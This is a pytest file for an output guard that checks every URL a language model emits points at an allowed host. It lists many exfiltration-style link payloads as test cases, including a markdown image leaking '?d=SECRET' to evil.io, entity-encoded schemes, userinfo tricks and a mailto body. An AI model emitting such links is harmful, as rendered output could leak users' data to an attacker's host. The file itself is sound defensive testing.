"""Link rules: every URL in the output points at an allowed host, by construction at every step.

Expectations are written out by hand (an independent reading of how browsers and markdown
renderers resolve links); the rules' verdict by the ``regex`` oracle and the compiled guard's
verdict on SmolLM2 tokens must both agree with them.
"""
import pytest

from safedecode import Policy, PolicyError, compile_policy, find_violations
from safedecode.channels.exfil import exfiltration_rules

HOSTS = ("docs.acme.com", "acme.com", "www.wikipedia.org")
CASES = [
    ("See https://docs.acme.com/billing for details.", True),
    ("Visit https://acme.com. Then log in.", True),
    ("HTTPS://ACME.COM/x", True),
    ("[docs](https://docs.acme.com/a?q=1)", True),
    ("![chart](https://acme.com/chart.png)", True),
    ("[wiki](//www.wikipedia.org/wiki/Cat)", True),
    ("Read www.wikipedia.org/wiki/Dog", True),
    ("a plain sentence with no link: use https when you can", True),
    ("Top news: markets. Reviews: 5 stars. The https: scheme.", True),
    ("![x](https://evil.io/p.png?d=SECRET)", False),
    ("see https://acme.com.evil.io/", False),
    ("https://acme.com:443@evil.io/", False),
    ("https://user@acme.com/", False),
    ("http:\\\\evil.io", False),
    ("https:evil.io/x", False),
    ("[a](//evil.io/x)", False),
    ('<img src="//evil.io/x.png">', False),
    ("[r]: //evil.io/track", False),
    ("www.evil.io/leak", False),
    ("ftp://files.evil.io", False),
    ("wss://evil.io/socket", False),
    ("[click](javascript:fetch('x'))", False),
    ("https://docs.acme.co/", False),  # a prefix of an allowed host followed by a terminator
    ("https://1.2.3.4/x", False),
    # spellings a renderer resolves (tests/test_exfil_renderer.py checks them against one)
    ("![x](https&colon;//evil.io/a.png)", False),
    ("![x](h&#116;tps://evil.io/a.png)", False),
    ('<img src="https&#x3a;//evil.io">', False),
    ("[x](https\\://evil.io)", False),
    ('<img src="ht\ttps://evil.io">', False),
    ('<img src="https://acme.com\n.evil.io/a">', False),
    ('<img srcset="a.png 1x, //evil.io/b.png 2x">', False),
    ('<div style="background:url(//evil.io/a)">', False),
    ("<https://acme.com;.evil.io>", False),
    ("\\\\evil.io\\share", False),
    ("[x](mailto:a@evil.io?body=S)", False),
    ("[x](ssh://evil.io)", False),
    ('<a href="file://evil.io/s">', False),
    ('<img src="https://acme.com/logo.png" alt="logo">', True),
    ("Docs: https://acme.com\nNext line", True),
    ("(see https://acme.com). Then &amp; &lt; &#169; file: data: news:", True),
]


@pytest.fixture(scope="module")
def policy():
    return Policy(forbid=exfiltration_rules(HOSTS))


@pytest.mark.parametrize("text, allowed", CASES)
def test_rules_match_the_expected_verdicts(policy, text, allowed):
    assert (not find_violations(policy, text)) == allowed, find_violations(policy, text)


def test_the_compiled_guard_agrees_token_by_token(policy, smollm2_tokenizer):
    compiled = compile_policy(policy, smollm2_tokenizer)
    for text, allowed in CASES:
        ids = smollm2_tokenizer.encode(text, add_special_tokens=False)
        state, refused_at = compiled.start_state, None
        for k, token in enumerate(ids):
            if token in compiled.forbidden_ids(state):
                refused_at = k
                break
            state = compiled.next_state(state, token)
        assert (refused_at is None) == allowed, (text, refused_at)
        if refused_at is not None:  # the refused token is exactly where the text first violates
            prefix = smollm2_tokenizer.decode(ids[:refused_at])
            assert not find_violations(policy, prefix)
            assert find_violations(policy, smollm2_tokenizer.decode(ids[:refused_at + 1]))


def test_without_allowed_hosts_no_url_can_start():
    policy = Policy(forbid=exfiltration_rules(()))
    assert find_violations(policy, "https://acme.com")
    assert find_violations(policy, "see https:a")
    assert not find_violations(policy, "use https when you can; the https: scheme; top news: today")


@pytest.mark.parametrize("bad", [["https://acme.com"], ["acme.com/path"], ["*.acme.com"], ["acme.com:8080"], [""],
                                 "acme.com", [42]])
def test_bad_hosts_are_refused_by_name(bad):
    with pytest.raises(PolicyError, match="allow_hosts"):
        exfiltration_rules(bad)
